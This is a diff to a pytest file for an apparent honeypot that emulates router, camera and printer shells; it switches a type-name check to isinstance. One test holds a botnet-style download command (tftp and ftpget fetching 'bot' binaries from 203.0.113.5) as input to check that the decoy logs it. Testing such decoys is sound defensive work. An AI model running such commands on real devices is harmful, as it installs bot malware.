@@ -5,6 +5,7 @@ import re
 import pytest
 
 from decnet_actors.contracts.machine import Pty
+from decnet_actors.domain.facts import DownloadRequested
 from tests.decnet_actors.machine.shells import Visitor, machine, run
 
 PERSONAS = ["alpine:3.19", "router:mips", "router:mipsel", "dvr:armv7", "camera:armv5", "printer:armv7"]
@@ -85,12 +86,12 @@ def test_what_would_reach_the_network_fails_in_the_words_of_the_applet_and_is_re
     ran = run(machine(distribution="alpine:3.19"), command)
 
     assert words in ran.output.decode()
-    assert 1 == len([fact for fact in ran.facts if type(fact).__name__ == "DownloadRequested"])
+    assert 1 == len([fact for fact in ran.facts if isinstance(fact, DownloadRequested)])
 
 
 def test_devices_transfer_with_tftp_and_ftpget():
     ran = run(machine(distribution="router:mipsel"), "tftp -g -l .b -r bot.mips 203.0.113.5; ftpget 203.0.113.5 .b bot")
-    urls = [fact.url for fact in ran.facts if type(fact).__name__ == "DownloadRequested"]
+    urls = [fact.url for fact in ran.facts if isinstance(fact, DownloadRequested)]
 
     assert ["tftp://203.0.113.5/bot.mips", "ftp://203.0.113.5/bot"] == urls
     assert b"tftp: timeout\nftpget: can't connect to remote host (203.0.113.5): Connection timed out\n" == ran.output
